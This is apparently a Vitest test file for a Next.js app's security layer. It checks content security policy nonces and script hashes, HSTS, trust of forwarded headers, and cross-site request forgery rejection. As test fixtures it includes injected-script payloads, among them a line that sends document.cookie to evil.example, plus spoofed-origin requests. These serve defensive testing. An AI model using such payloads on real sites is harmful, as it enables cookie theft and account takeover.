import { createHash } from "node:crypto";
import { NextRequest } from "next/server";
import { describe, expect, it } from "vitest";
import { proxy } from "@/proxy";
import { isForeignMutation, isForeignPagePost } from "@/server/http/csrf";
import { contentSecurityPolicy, inlineScriptHashes, isHttps, tileOriginOf } from "@/server/http/security-headers";

describe("content security policy", () => {
  it("allows scripts only with the nonce, and no framing", () => {
    const csp = contentSecurityPolicy({ scripts: { nonce: "abc123" }, dev: false, https: false, tileOrigin: "https://tile.openstreetmap.org" });
    const directives = Object.fromEntries(csp.split("; ").map((d) => [d.split(" ")[0], d]));
    expect(directives["script-src"]).toBe("script-src 'self' 'nonce-abc123' 'strict-dynamic'");
    expect(directives["script-src"]).not.toContain("unsafe-inline");
    expect(directives["script-src"]).not.toContain("unsafe-eval");
    expect(directives["frame-ancestors"]).toBe("frame-ancestors 'none'");
    expect(directives["object-src"]).toBe("object-src 'none'");
    expect(directives["img-src"]).toContain("https://tile.openstreetmap.org");
    expect(csp).not.toContain("upgrade-insecure-requests");
  });

  it("allows a cached page's framework scripts by their hashes, never by 'unsafe-inline' or a shared nonce", () => {
    const turbopack =
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/30getrsh8qyka.js"],"runtimeModuleIds":[494553]});';
    const boot = "(self.__next_f=self.__next_f||[]).push([0])";
    const chunk = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])';
    const html = `<html><head><script src="/_next/static/a.js" async=""></script><script id="_R_">${turbopack}</script><script>${boot}</script></head>
      <body><script>${chunk}</script><script>${chunk}</script><script type="application/ld+json">{"@type":"Report"}</script></body></html>`;
    const { hashes, unknown } = inlineScriptHashes(html);
    // Three distinct framework scripts (one repeated), the external one and the data block skipped; SHA-256 of the exact text.
    const sha = (text: string) => createHash("sha256").update(text).digest("base64");
    expect(hashes).toEqual([sha(turbopack), sha(boot), sha(chunk)]);
    expect(unknown).toBe(0);
    const csp = contentSecurityPolicy({ scripts: { hashes }, dev: false, https: true, tileOrigin: null });
    const scriptSrc = csp.split("; ").find((d) => d.startsWith("script-src "))!;
    expect(scriptSrc).toBe(`script-src 'self' ${hashes.map((h) => `'sha256-${h}'`).join(" ")}`);
    expect(csp).not.toMatch(/unsafe-inline'[^;]*;[^;]*script|nonce/);
    expect(csp).toContain("upgrade-insecure-requests");
    expect(contentSecurityPolicy({ scripts: { hashes: [] }, dev: false, https: false, tileOrigin: null })).toContain("script-src 'self';");
  });

  it("never hashes in a script injected into the page, whatever it looks like (fails before: every inline script was allowed)", () => {
    const injected = [
      "alert(document.cookie)",
      'self.__next_f.push([1,"x"]);fetch("//evil.example/"+document.cookie)',
      "(self.__next_f=self.__next_f||[]).push([0]);alert(1)",
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["//evil.example/x.js"],"runtimeModuleIds":[1]});',
    ];
    for (const text of injected) {
      const { hashes, unknown } = inlineScriptHashes(`<p>hi</p><script>${text}</script><script type="text/javascript">${text}</script>`);
      expect([text, hashes]).toEqual([text, []]);
      expect(unknown).toBe(2);
    }
  });

  it("gives every page request a fresh nonce, and HSTS only over HTTPS", () => {
    const plain = proxy(new NextRequest("http://sigap.test/insiden"));
    const again = proxy(new NextRequest("http://sigap.test/insiden"));
    const nonceOf = (csp: string | null) => /'nonce-([^']+)'/.exec(csp ?? "")?.[1];
    expect(nonceOf(plain.headers.get("content-security-policy"))).toBeTruthy();
    expect(nonceOf(plain.headers.get("content-security-policy"))).not.toBe(nonceOf(again.headers.get("content-security-policy")));
    expect(plain.headers.get("strict-transport-security")).toBeNull();
    const secure = proxy(new NextRequest("https://sigap.test/insiden"));
    expect(secure.headers.get("strict-transport-security")).toBe("max-age=63072000; includeSubDomains");
    expect(secure.headers.get("content-security-policy")).toContain("upgrade-insecure-requests");
  });

  it("believes a forwarded protocol only from trusted proxies", () => {
    expect(isHttps("http://app:3000/", "https", 0)).toBe(false);
    expect(isHttps("http://app:3000/", "https", 1)).toBe(true);
    expect(tileOriginOf("https://tile.example/{z}/{x}/{y}.png")).toBe("https://tile.example");
    expect(tileOriginOf("not a url")).toBeNull();
  });
});

describe("cross-site request forgery", () => {
  const req = (method: string, headers: Record<string, string>) => ({
    method,
    url: "http://sigap.test/api/trpc/complaint.submit",
    headers: new Headers({ host: "sigap.test", ...headers }),
  });

  it("refuses mutations without our header or from another origin", () => {
    expect(isForeignMutation(req("POST", {}), 0)).toBe(true);
    expect(isForeignMutation(req("POST", { "x-sigap-request": "1", origin: "https://evil.example" }), 0)).toBe(true);
    expect(isForeignMutation(req("POST", { "x-sigap-request": "1", origin: "null" }), 0)).toBe(true);
    expect(isForeignMutation(req("POST", { "x-sigap-request": "1", origin: "http://sigap.test" }), 0)).toBe(false);
    expect(isForeignMutation(req("POST", { "x-sigap-request": "1" }), 0)).toBe(false);
    expect(isForeignMutation(req("GET", {}), 0)).toBe(false);
  });

  it("trusts X-Forwarded-Host only behind a trusted proxy (fails before: anyone facing the app could name their own origin)", () => {
    const spoofed = req("POST", { "x-sigap-request": "1", origin: "https://evil.example", "x-forwarded-host": "evil.example" });
    expect(isForeignMutation(spoofed, 0)).toBe(true);
    expect(isForeignPagePost({ ...spoofed, method: "POST" }, 0)).toBe(true);
    // Behind nginx (one trusted hop) the proxy sets it: the public host, not the upstream's.
    const proxied = req("POST", {
      "x-sigap-request": "1",
      origin: "https://sigap.example",
      "x-forwarded-host": "sigap.example",
      host: "127.0.0.1:3000",
    });
    expect(isForeignMutation(proxied, 1)).toBe(false);
    expect(isForeignMutation(proxied, 0)).toBe(true);
  });

  it("spots a page POST (a Server Action such as sign-in) from another site", () => {
    expect(isForeignPagePost(req("POST", { origin: "https://evil.example", "next-action": "x" }), 0)).toBe(true);
    expect(isForeignPagePost(req("POST", { origin: "http://sigap.test", "next-action": "x" }), 0)).toBe(false);
    expect(isForeignPagePost(req("GET", { origin: "https://evil.example" }), 0)).toBe(false);
  });
});
